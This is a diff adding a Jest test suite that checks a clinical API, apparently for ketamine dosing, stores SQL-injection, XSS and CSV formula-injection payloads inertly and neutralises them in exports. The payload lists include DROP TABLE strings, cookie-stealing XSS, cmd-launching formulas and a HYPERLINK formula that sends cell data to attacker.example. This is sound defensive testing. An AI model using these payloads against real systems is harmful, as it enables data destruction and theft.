@@ -1,0 +1,484 @@
+/**
+ * SQL injection and XSS payloads in every free-text field of every write operation: stored
+ * verbatim (read back from the database) and returned byte-identical in JSON, served as
+ * application/json with X-Content-Type-Options: nosniff. Fields that refuse `<` `>` (names) refuse
+ * the XSS payloads with a 400 naming the field and write nothing. Patient search with SQL
+ * wildcards and injection returns exactly the matching patients; the tables survive; the records
+ * CSV neutralises formula injection.
+ */
+import type { EntityTarget, ObjectLiteral } from 'typeorm';
+import { Phq9Assessment } from '../src/assessments/phq9-assessment.entity';
+import { RiskEvent } from '../src/assessments/risk-event.entity';
+import { Clinic } from '../src/clinics/clinic.entity';
+import { Flag } from '../src/flags/flag.entity';
+import { Patient } from '../src/patients/patient.entity';
+import { DosingSession } from '../src/sessions/dosing-session.entity';
+import { Observation } from '../src/sessions/observation.entity';
+import { SideEffect } from '../src/sessions/side-effect.entity';
+import { User, UserClinic } from '../src/users/user.entity';
+import { bearer, makeWorld, startApi, type TestApi, type World } from './support/api';
+import {
+  CLINICAL_TABLES,
+  createPatient,
+  expectNothingWritten,
+  expectStatus,
+  isoAt,
+  messages,
+  MINUTE,
+  type Res,
+  V1,
+} from './support/clinical-fixtures';
+
+const SQL_PAYLOADS = [
+  "' OR '1'='1",
+  "'; DROP TABLE patients;--",
+  'Robert"); DROP TABLE sessions; --',
+  "admin'--",
+  '1; DELETE FROM audit_log WHERE 1=1',
+  '%',
+  '_',
+  '%_%',
+  'back\\slash \\\\ \\x27 \\0',
+  '$$; DROP TABLE clinics; $$',
+  'Zoë Ōkubo 山田太郎 🩺 \u202eevil\u202c',
+];
+const XSS_PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(document.cookie)>',
+  "javascript:alert('x')",
+  '</textarea><iframe src="javascript:alert(1)">',
+  "{{constructor.constructor('alert(1)')()}}",
+];
+const PAYLOADS = [...SQL_PAYLOADS, ...XSS_PAYLOADS];
+const HAS_ANGLE = /[<>]/;
+
+/** The value sent for a field with a minimum length: the payload, repeated up to it. */
+const atLeast = (payload: string, min: number): string =>
+  payload.length >= min ? payload : payload.repeat(Math.ceil(min / payload.length));
+
+function expectJson(res: Res): void {
+  expect(res.headers['content-type']).toMatch(/^application\/json; charset=utf-8$/);
+  expect(res.headers['x-content-type-options']).toBe('nosniff');
+}
+
+/** A field read back from the database, the way the entity stores it. */
+async function stored<T extends ObjectLiteral>(
+  api: TestApi,
+  entity: EntityTarget<T>,
+  id: string,
+): Promise<T> {
+  return api.ds.getRepository(entity).findOneByOrFail({ id } as never);
+}
+
+describe('injection payloads are stored and returned inert', () => {
+  let api: TestApi;
+  let world: World;
+  beforeAll(async () => {
+    api = await startApi();
+    world = await makeWorld(api);
+  });
+  afterAll(() => api.close());
+
+  const psychiatrist = () => world.tokens.a.psychiatrist;
+  const nurse = () => world.tokens.a.nurse;
+  const post = (path: string, token: string, body: unknown, headers: Record<string, string> = {}) =>
+    api
+      .http()
+      .post(`${V1}${path}`)
+      .set(bearer(token))
+      .set(headers)
+      .send(body as object);
+  const get = (path: string, token: string) => api.http().get(`${V1}${path}`).set(bearer(token));
+
+  it.each(PAYLOADS)('clinical free text: %s', async (payload) => {
+    // names: SQL payloads are names like any other; < > are refused (below)
+    const name = HAS_ANGLE.test(payload) ? 'Injection' : payload;
+    const patient = await createPatient(api, psychiatrist(), world.clinicA.id, {
+      givenName: name,
+      familyName: name,
+    });
+    const created = await get(`/patients/${patient.id}`, nurse());
+    expectStatus(created, 200);
+    expectJson(created);
+    expect(created.body).toMatchObject({ givenName: name, familyName: name });
+    expect(await stored(api, Patient, patient.id)).toMatchObject({
+      givenName: name,
+      familyName: name,
+    });
+
+    // session: notes and concomitant medications
+    const sessionRes = await post(`/patients/${patient.id}/sessions`, psychiatrist(), {
+      drug: 'ketamine',
+      route: 'iv',
+      doseMg: 35,
+      startedAt: isoAt(Date.now(), -10 * MINUTE),
+      notes: payload,
+      concomitantMedications: [payload, 'sertraline 50 mg'],
+    });
+    expectStatus(sessionRes, 201);
+    expectJson(sessionRes);
+    const sessionId = sessionRes.body.id as string;
+    expect(sessionRes.body).toMatchObject({
+      notes: payload,
+      concomitantMedications: [payload, 'sertraline 50 mg'],
+    });
+    expect(await stored(api, DosingSession, sessionId)).toMatchObject({
+      notes: payload,
+      concomitantMedications: [payload, 'sertraline 50 mg'],
+    });
+
+    // an observation that raises a flag (acknowledged and resolved with the payload as notes)
+    const observation = await post(`/sessions/${sessionId}/observations`, nurse(), {
+      recordedAt: isoAt(Date.now(), -5 * MINUTE),
+      heartRate: 130,
+    });
+    expectStatus(observation, 201);
+    const flag = await api.ds
+      .getRepository(Flag)
+      .findOneByOrFail({ patientId: patient.id, rule: 'hr.tachycardia' });
+    const ack = await post(`/flags/${flag.id}/acknowledge`, nurse(), { note: payload });
+    expectStatus(ack, 200);
+    expectJson(ack);
+    expect(ack.body.acknowledgeNote ?? ack.body.note).toBe(payload);
+    const resolveNote = atLeast(payload, 3);
+    const resolved = await post(`/flags/${flag.id}/resolve`, nurse(), { note: resolveNote });
+    expectStatus(resolved, 200);
+    expect(resolved.body.note).toBe(resolveNote);
+    expect(await stored(api, Flag, flag.id)).toMatchObject({
+      acknowledgeNote: payload,
+      note: resolveNote,
+    });
+    const flags = await get(`/flags?patientId=${patient.id}&status=resolved`, nurse());
+    expectStatus(flags, 200);
+    expectJson(flags);
+    expect(flags.body.items.find((f: { id: string }) => f.id === flag.id)?.note).toBe(resolveNote);
+
+    // side effect and risk event notes
+    const sideEffect = await post(`/sessions/${sessionId}/side-effects`, nurse(), {
+      type: 'other',
+      severity: 'mild',
+      onsetAt: isoAt(Date.now(), -MINUTE),
+      notes: payload,
+    });
+    expectStatus(sideEffect, 201);
+    expect(sideEffect.body.notes).toBe(payload);
+    const risk = await post(`/patients/${patient.id}/risk-events`, nurse(), {
+      type: 'craving',
+      occurredAt: isoAt(Date.now(), -MINUTE),
+      notes: payload,
+    });
+    expectStatus(risk, 201);
+    expect(risk.body.notes).toBe(payload);
+    for (const [path, id] of [
+      [`/patients/${patient.id}/side-effects`, sideEffect.body.id],
+      [`/patients/${patient.id}/risk-events`, risk.body.id],
+    ] as const) {
+      const list = await get(path, nurse());
+      expectStatus(list, 200);
+      expectJson(list);
+      expect(list.body.items.find((i: { id: string }) => i.id === id)?.notes).toBe(payload);
+    }
+    expect((await stored(api, SideEffect, sideEffect.body.id as string)).notes).toBe(payload);
+    expect((await stored(api, RiskEvent, risk.body.id as string)).notes).toBe(payload);
+
+    // entered-in-error reasons
+    const phq9 = await post(`/patients/${patient.id}/phq9`, nurse(), {
+      administeredAt: isoAt(Date.now(), -MINUTE),
+      items: [0, 0, 0, 0, 0, 0, 0, 0, 0],
+      recall: 'two_weeks',
+    });
+    expectStatus(phq9, 201);
+    const reason = atLeast(payload, 3);
+    const marks: [string, string, EntityTarget<ObjectLiteral>][] = [
+      ['observations', observation.body.id as string, Observation],
+      ['side-effects', sideEffect.body.id as string, SideEffect],
+      ['risk-events', risk.body.id as string, RiskEvent],
+      ['phq9', phq9.body.id as string, Phq9Assessment],
+    ];
+    for (const [kind, id, entity] of marks) {
+      const res = await post(`/${kind}/${id}/entered-in-error`, nurse(), { reason });
+      expectStatus(res, 200);
+      expectJson(res);
+      expect(res.body.enteredInError.reason).toBe(reason);
+      expect((await stored(api, entity, id))['enteredInErrorReason']).toBe(reason);
+    }
+
+    // discharge override reason
+    const overrideReason = atLeast(payload, 5);
+    const discharged = await post(`/sessions/${sessionId}/discharge`, psychiatrist(), {
+      dischargedAt: isoAt(Date.now(), 0),
+      overrideReason,
+    });
+    expectStatus(discharged, 200);
+    expectJson(discharged);
+    expect(discharged.body.dischargeOverrideReason).toBe(overrideReason);
+    const session = await get(`/sessions/${sessionId}`, nurse());
+    expectStatus(session, 200);
+    expect(session.body).toMatchObject({
+      notes: payload,
+      concomitantMedications: [payload, 'sertraline 50 mg'],
+      dischargeOverrideReason: overrideReason,
+    });
+    expect((await stored(api, DosingSession, sessionId)).dischargeOverrideReason).toBe(
+      overrideReason,
+    );
+  });
+
+  it.each(PAYLOADS)('administration free text: %s', async (payload) => {
+    const admin = world.tokens.a.admin;
+    const name = atLeast(payload, 2);
+    if (HAS_ANGLE.test(payload)) {
+      // clinic and user names refuse < > (they are shown in e-mails and the page title)
+      await expectNothingWritten(api, async () => {
+        const clinic = await post('/clinics', admin, { name, timezone: 'Europe/London' });
+        expectStatus(clinic, 400);
+        expect(messages(clinic).join('\n')).toMatch(/^name /m);
+        const user = await post('/users', admin, {
+          email: `inj-${Date.now()}@test.example`,
+          name,
+          role: 'nurse',
+          password: 'a-long-and-unbreached-passphrase',
+          clinicIds: [world.clinicA.id],
+        });
+        expectStatus(user, 400);
+        expect(messages(user).join('\n')).toMatch(/^name /m);
+      }, [Clinic, User]);
+      return;
+    }
+    const clinic = await post('/clinics', admin, { name, timezone: 'Europe/London' });
+    expectStatus(clinic, 201);
+    expectJson(clinic);
+    expect(clinic.body.name).toBe(name);
+    expect((await stored(api, Clinic, clinic.body.id as string)).name).toBe(name);
+    const user = await post('/users', admin, {
+      email: `inj-${Date.now()}-${Math.random().toString(36).slice(2)}@test.example`,
+      name,
+      role: 'nurse',
+      password: 'a-long-and-unbreached-passphrase',
+      clinicIds: [clinic.body.id],
+    });
+    expectStatus(user, 201);
+    expect(user.body.name).toBe(name);
+    expect((await stored(api, User, user.body.id as string)).name).toBe(name);
+    const users = await api.http().get(`${V1}/users?limit=200`).set(bearer(admin));
+    expectStatus(users, 200);
+    expectJson(users);
+    expect(users.body.items.find((u: { id: string }) => u.id === user.body.id)?.name).toBe(name);
+    const clinics = await api.http().get(`${V1}/clinics?limit=200`).set(bearer(admin));
+    expectStatus(clinics, 200);
+    expect(clinics.body.items.find((c: { id: string }) => c.id === clinic.body.id)?.name).toBe(
+      name,
+    );
+  });
+
+  it.each(XSS_PAYLOADS.filter((p) => HAS_ANGLE.test(p)))(
+    'patient names refuse %s with a 400 naming the field',
+    async (payload) => {
+      for (const field of ['givenName', 'familyName']) {
+        const res = await expectNothingWritten(
+          api,
+          () =>
+            post('/patients', psychiatrist(), {
+              clinicId: world.clinicA.id,
+              mrn: `XSS-${Math.random().toString(36).slice(2, 8)}`,
+              givenName: 'Ok',
+              familyName: 'Ok',
+              birthDate: '1980-01-01',
+              sex: 'female',
+              [field]: payload,
+            }),
+          [...CLINICAL_TABLES, Patient],
+        );
+        expectStatus(res, 400);
+        expect(messages(res).join('\n')).toContain(`${field} must not contain`);
+      }
+    },
+  );
+
+  it.each([...SQL_PAYLOADS, ...XSS_PAYLOADS])(
+    'identifiers with a strict format refuse %s (MRN, lot number), naming the field',
+    async (payload) => {
+      const patient = await createPatient(api, psychiatrist(), world.clinicA.id);
+      const mrn = await expectNothingWritten(
+        api,
+        () =>
+          api
+            .http()
+            .patch(`${V1}/patients/${patient.id}`)
+            .set(bearer(psychiatrist()))
+            .set('If-Match', '"1"')
+            .send({ mrn: payload }),
+        [...CLINICAL_TABLES],
+      );
+      // "_" alone is a valid MRN character; everything else here is refused
+      if (/^[A-Za-z0-9][A-Za-z0-9._/-]*$/.test(payload)) expectStatus(mrn, 200);
+      else {
+        expectStatus(mrn, 400);
+        expect(messages(mrn).join('\n')).toMatch(/^mrn /m);
+      }
+      const lot = await expectNothingWritten(api, () =>
+        post(`/patients/${patient.id}/sessions`, psychiatrist(), {
+          drug: 'ketamine',
+          route: 'iv',
+          doseMg: 35,
+          startedAt: isoAt(Date.now(), -MINUTE),
+          lotNumber: payload,
+        }),
+      );
+      expectStatus(lot, 400);
+      expect(messages(lot).join('\n')).toMatch(/^lotNumber /m);
+    },
+  );
+
+  describe('patient search', () => {
+    const names: Record<string, string> = {
+      percent: '100% Sure',
+      underscore: 'Under_Score',
+      quote: "O'Brien",
+      injection: "' OR '1'='1",
+      backslash: 'Back\\slash',
+      plain: 'Plainname',
+      other: 'Othername',
+    };
+    const ids: Record<string, string> = {};
+    let clinicId: string;
+
+    beforeAll(async () => {
+      // a clinic of their own, so the counts are exact
+      const clinic = await post('/clinics', world.tokens.a.admin, {
+        name: 'Search Clinic',
+        timezone: 'Europe/London',
+      });
+      expectStatus(clinic, 201);
+      clinicId = clinic.body.id as string;
+      await api.ds
+        .getRepository(UserClinic)
+        .insert({ userId: world.users.a.psychiatrist.id, clinicId });
+      for (const [key, familyName] of Object.entries(names)) {
+        const p = await createPatient(api, psychiatrist(), clinicId, {
+          givenName: 'Searchable',
+          familyName,
+          mrn: `S-${key}`,
+        });
+        ids[key] = p.id;
+      }
+    });
+
+    const search = async (term: string): Promise<string[]> => {
+      const res = await api
+        .http()
+        .get(`${V1}/patients`)
+        .query({ clinicId, search: term, limit: 200 })
+        .set(bearer(psychiatrist()));
+      expectStatus(res, 200);
+      expectJson(res);
+      return (res.body.items as { id: string }[]).map((p) => p.id).sort();
+    };
+    const only = (...keys: string[]) => keys.map((k) => ids[k]).sort();
+
+    it.each([
+      ['%', ['percent']],
+      ['_', ['underscore']],
+      ['%_%', []],
+      ["'", ['quote', 'injection']],
+      ["' OR '1'='1", ['injection']],
+      ["O'Brien", ['quote']],
+      ['\\', ['backslash']],
+      ["'; DROP TABLE patients;--", []],
+      [
+        'searchable',
+        ['percent', 'underscore', 'quote', 'injection', 'backslash', 'plain', 'other'],
+      ],
+    ])('search %p finds exactly its matches', async (term, keys) => {
+      expect(await search(term)).toEqual(only(...keys));
+    });
+
+    it('leaves every table in place', async () => {
+      for (const entity of [Patient, DosingSession, Clinic, User, ...CLINICAL_TABLES]) {
+        await expect(api.ds.getRepository(entity).count()).resolves.toBeGreaterThanOrEqual(0);
+      }
+      expect(await api.ds.getRepository(Patient).countBy({ clinicId })).toBe(
+        Object.keys(names).length,
+      );
+    });
+  });
+
+  describe('CSV exports', () => {
+    /** Parses RFC 4180 text (quoted fields, doubled quotes, CRLF records) into rows of fields. */
+    function parseCsv(text: string): string[][] {
+      const rows: string[][] = [];
+      let row: string[] = [];
+      let field = '';
+      let quoted = false;
+      for (let i = 0; i < text.length; i++) {
+        const c = text[i];
+        if (quoted) {
+          if (c === '"' && text[i + 1] === '"') {
+            field += '"';
+            i++;
+          } else if (c === '"') quoted = false;
+          else field += c;
+        } else if (c === '"') quoted = true;
+        else if (c === ',') {
+          row.push(field);
+          field = '';
+        } else if (c === '\r' && text[i + 1] === '\n') {
+          row.push(field);
+          rows.push(row);
+          row = [];
+          field = '';
+          i++;
+        } else field += c;
+      }
+      return rows;
+    }
+
+    it.each([
+      '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+      '+1+1',
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '=1+1\r\n=2+2',
+    ])(
+      'neutralises %p in the records CSV (risk event notes, entered-in-error reasons)',
+      async (formula) => {
+        const patient = await createPatient(api, psychiatrist(), world.clinicA.id);
+        const risk = await post(`/patients/${patient.id}/risk-events`, nurse(), {
+          type: 'craving',
+          occurredAt: isoAt(Date.now(), -MINUTE),
+          notes: formula,
+        });
+        expectStatus(risk, 201);
+        const marked = await post(`/risk-events/${risk.body.id}/entered-in-error`, nurse(), {
+          reason: formula,
+        });
+        expectStatus(marked, 200);
+        const res = await api
+          .http()
+          .get(`${V1}/patients/${patient.id}/records.csv`)
+          .set(bearer(world.tokens.a.manager))
+          .buffer(true)
+          .parse((response, done) => {
+            let text = '';
+            response.setEncoding('utf8');
+            response.on('data', (chunk: string) => (text += chunk));
+            response.on('end', () => done(null, text));
+          });
+        expectStatus(res, 200);
+        expect(res.headers['x-content-type-options']).toBe('nosniff');
+        const rows = parseCsv(res.body as string);
+        const header = rows[0];
+        const row = rows.find((r) => r[header.indexOf('record_id')] === risk.body.id);
+        expect(row).toBeDefined();
+        const cells = [
+          (row as string[])[header.indexOf('value')],
+          (row as string[])[header.indexOf('entered_in_error_reason')],
+        ];
+        // each cell is the text with an apostrophe in front: a spreadsheet shows it, never runs it
+        expect(cells).toEqual([`'${formula}`, `'${formula}`]);
+      },
+    );
+  });
+});
